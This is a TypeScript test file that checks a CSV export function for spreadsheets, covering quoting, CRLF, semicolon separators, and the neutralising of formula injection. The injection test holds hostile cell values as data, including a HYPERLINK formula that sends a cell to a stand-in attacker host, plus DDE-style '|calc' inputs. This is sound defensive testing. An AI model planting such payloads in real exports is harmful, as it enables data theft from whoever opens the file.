/** Files for spreadsheets, with whatever people write in them. */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvOf } from "./csv";

/** Reads as RFC 4180 says. */
function parse(file: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 1;
  while (at < file.length) {
    let cell = "";
    if (file[at] === '"') {
      for (at += 1; !(file[at] === '"' && file[at + 1] !== '"'); at += 1) {
        if (file[at] === '"') at += 1;
        cell += file[at];
      }
      at += 1;
    } else {
      for (; file[at] !== "," && file[at] !== "\r"; at += 1) cell += file[at];
    }
    row.push(cell);
    if (file[at] === ",") at += 1;
    else {
      expect(file.slice(at, at + 2)).toBe("\r\n");
      at += 2;
      rows.push(row);
      row = [];
    }
  }
  return rows;
}

describe("a file for spreadsheets", () => {
  it("begins with the mark of UTF-8 and ends each line with CRLF", () => {
    expect(
      csvOf([
        ["a", 1],
        ["é", -90],
      ]),
    ).toBe("\uFEFFa,1\r\né,-90\r\n");
    expect(csvOf([])).toBe("\uFEFF");
  });

  it("quotes what would end a cell", () => {
    expect(csvOf([['say "hi", you', "two\nlines", " spaces "]])).toBe(
      '\uFEFF"say ""hi"", you","two\nlines"," spaces "\r\n',
    );
  });

  it("takes the edge off formulas, and leaves numbers alone", () => {
    for (const text of [
      ...["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1", "\n=1", "|calc", "%0A"],
      ...["＝1", "＋1", "－1", "＠A", '=HYPERLINK("http://evil.example?"&A1)'],
    ]) {
      const [[cell = ""] = []] = parse(csvOf([[text]]));
      expect(cell).toBe(`'${text}`);
    }
    expect(csvOf([["a-b", "1+1=2", "me@example.org", -5, 0]])).toBe(
      "\uFEFFa-b,1+1=2,me@example.org,-5,0\r\n",
    );
  });

  it("leaves no formula where semicolons part the cells, as spreadsheets in half of Europe have it", () => {
    for (const [text, file] of [
      ["cake;=A1+1;", "cake;'=A1+1;"],
      ["cake; \t@SUM(A1)", "cake;' \t@SUM(A1)"],
      ['cake;"=A1', '"cake;\'""=A1"'],
      ["a;-1;+1", "a;'-1;'+1"],
      ["a; b;c=d", "a; b;c=d"],
    ] as const) {
      expect(csvOf([["2026-11-25", text]])).toBe(`\uFEFF2026-11-25,${file}\r\n`);
    }
  });

  it("can be read again, whatever the texts, and holds no formula", () => {
    const text = fc.oneof(
      fc.string({ unit: "grapheme", maxLength: 12 }),
      fc.string({ unit: fc.constantFrom(..."=+-@,;\"\r\n\t '‏a"), maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 4 })), (rows) => {
        const read = parse(csvOf(rows));
        expect(read.map((row) => row.length)).toEqual(rows.map((row) => row.length));
        read.flat().forEach((cell, index) => {
          const before = rows.flat()[index] ?? "";
          expect(cell.replaceAll("'", "")).toBe(before.replaceAll("'", ""));
          expect(cell).not.toMatch(/(^|;)[\s"]*[=+\-@]/);
        });
      }),
    );
  });
});
